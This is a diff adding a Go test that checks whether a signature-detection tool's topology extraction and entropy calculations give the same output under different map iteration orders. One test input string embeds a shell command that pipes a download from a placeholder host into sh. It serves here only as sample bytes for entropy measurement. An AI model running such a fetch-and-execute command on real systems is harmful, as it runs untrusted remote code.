@@ -158,4 +158,58 @@ func TestVerifC10Match(t *testing.T) {
 		r.Count("transitions", ex.Points)
 		r.Nontrivial("signature-matching")
 	}
+	// topology extraction itself (the numbers every alert prints at full precision): real functions
+	// with many string literals, and the entropy functions on byte strings with many different
+	// byte frequencies (a sum of floating-point terms is order sensitive in its last bits)
+	if sh == 1%func() int { _, n := vh.Shard(); return n }() {
+		res, err := load("topo-extract", []string{"A", "B", "C", "D", "E"}, []string{"strings", "strloop", "longunicode", "cjk1", "crosspkg"})
+		if err != nil {
+			r.Fail("load: %v", err)
+			return
+		}
+		var texts [][]byte
+		texts = append(texts, []byte("the quick brown fox jumps over the lazy dog 0123456789 /bin/sh -c 'curl http://x/y|sh' \x00\x01\x02\xff"))
+		var all []byte
+		for i := 0; i < 256; i++ {
+			for k := 0; k <= i%11; k++ {
+				all = append(all, byte(i))
+			}
+		}
+		texts = append(texts, all, []byte("aab"), []byte("abcabcabd"))
+		var got, baseline string
+		ex := &vrt.Explorer{Bound: 1, MaxExec: 60000, OnExec: func(x *vrt.Exec, choices []int) bool {
+			r.Eval()
+			if baseline == "" {
+				baseline = got
+			}
+			if got != baseline {
+				r.Violate("topology-order/"+vh.Hash(fmt.Sprint(choices)), fmt.Sprintf("extracted topology / entropy depends on map iteration order:\n%s", firstDiffLines(baseline, got)), map[string]interface{}{"choices": choices})
+			}
+			return true
+		}}
+		ex.Run(func() {
+			var sb strings.Builder
+			for _, x := range res {
+				fn := x.GetSSAFunction()
+				if fn == nil {
+					continue
+				}
+				tp := topology.ExtractTopology(fn)
+				b, _ := json.Marshal(tp)
+				idx, _ := json.Marshal(detection.IndexFunction(tp, "n", "d", "HIGH", "c"))
+				fmt.Fprintf(&sb, "%s\n%s\n%s\n%s %s\n", x.FunctionName, b, idx, detection.GenerateTopologyHash(tp), topology.TopologyFingerprint(tp))
+			}
+			for _, tx := range texts {
+				pr, _ := json.Marshal(topology.CalculateEntropyProfile(tx, []string{string(tx), "second"}))
+				fmt.Fprintf(&sb, "H=%v Hn=%v profile=%s\n", topology.CalculateEntropy(tx), topology.CalculateEntropyNormalized(tx), pr)
+			}
+			got = sb.String()
+		})
+		r.Count("traces_validated_against_impl", ex.Executions)
+		r.Count("transitions", ex.Points)
+		r.Nontrivial("topology-extraction")
+		if ex.Capped {
+			r.NotExhaustive("cap reached for topology extraction")
+		}
+	}
 }
